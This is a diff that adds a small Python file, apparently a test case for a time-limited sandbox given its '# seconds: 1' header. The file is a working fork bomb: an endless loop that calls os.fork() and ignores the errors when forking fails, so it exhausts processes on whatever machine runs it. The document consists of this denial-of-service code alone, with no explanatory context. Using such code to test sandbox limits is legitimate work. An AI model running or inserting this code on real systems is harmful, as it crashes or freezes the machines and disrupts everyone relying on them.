@@ -1,0 +1,8 @@
+# seconds: 1
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
